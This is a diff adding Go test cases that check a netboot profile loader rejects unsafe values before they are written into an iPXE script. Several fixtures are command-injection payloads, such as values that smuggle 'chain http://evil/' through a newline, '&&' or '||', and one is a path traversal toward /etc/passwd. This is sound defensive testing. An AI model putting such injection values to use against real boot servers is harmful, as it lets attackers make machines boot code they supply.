@@ -163,6 +163,75 @@ func TestLoadErrors(t *testing.T) {
 			line: 6,
 			want: []string{"local_boot"},
 		},
+		// Everything below goes into the iPXE script, which has no quoting:
+		// a line break, a word break or an iPXE operator in a value would
+		// add commands to it.
+		{
+			name: "kernel with a newline",
+			src:  "profile \"a\" {\n  kernel = \"void/vmlinuz\\nchain http://evil/x\"\n}\n",
+			line: 2,
+			want: []string{"kernel", `\n`},
+		},
+		{
+			name: "kernel with a carriage return",
+			src:  "profile \"a\" {\n  kernel = \"void/vmlinuz\\r\"\n}\n",
+			line: 2,
+			want: []string{"kernel"},
+		},
+		{
+			name: "kernel ending in a backslash",
+			src:  "profile \"a\" {\n  kernel = \"void/vmlinuz\\\\\"\n}\n",
+			line: 2,
+			want: []string{"kernel"},
+		},
+		{
+			name: "kernel outside the netboot directory",
+			src:  "profile \"a\" {\n  kernel = \"void/../../etc/passwd\"\n}\n",
+			line: 2,
+			want: []string{"kernel", "inside the netboot directory"},
+		},
+		{
+			name: "initrd with a control character",
+			src:  "profile \"a\" {\n  kernel = \"k\"\n  initrd = [\"void/initrd\", \"void/x\\u0007\"]\n}\n",
+			line: 3,
+			want: []string{"initrd"},
+		},
+		{
+			name: "initrd with a space and an iPXE operator",
+			src:  "profile \"a\" {\n  kernel = \"k\"\n  initrd = [\"void/initrd && chain http://evil/\"]\n}\n",
+			line: 3,
+			want: []string{"initrd"},
+		},
+		{
+			name: "profile name with a newline",
+			src:  "\nprofile \"a\\nb\" {\n  kernel = \"k\"\n}\n",
+			line: 2,
+			want: []string{"profile name"},
+		},
+		{
+			name: "cmdline with a control character",
+			src:  "profile \"a\" {\n  kernel = \"k\"\n  cmdline = \"quiet \\u0001\"\n}\n",
+			line: 3,
+			want: []string{"cmdline", "control character"},
+		},
+		{
+			name: "cmdline that starts another iPXE command",
+			src:  "profile \"a\" {\n  kernel = \"k\"\n  cmdline = \"quiet || chain http://evil/\"\n}\n",
+			line: 3,
+			want: []string{"cmdline", "another iPXE command"},
+		},
+		{
+			name: "cmdline with an iPXE comment",
+			src:  "profile \"a\" {\n  kernel = \"k\"\n  cmdline = \"quiet #rest\"\n}\n",
+			line: 3,
+			want: []string{"cmdline", "comment"},
+		},
+		{
+			name: "cmdline ending in a backslash",
+			src:  "profile \"a\" {\n  kernel = \"k\"\n  cmdline = \"quiet x\\\\\"\n}\n",
+			line: 3,
+			want: []string{"cmdline", "backslash"},
+		},
 		{
 			name: "same name twice in one file",
 			src:  "profile \"a\" {\n  kernel = \"k\"\n}\nprofile \"a\" {\n  kernel = \"k\"\n}\n",
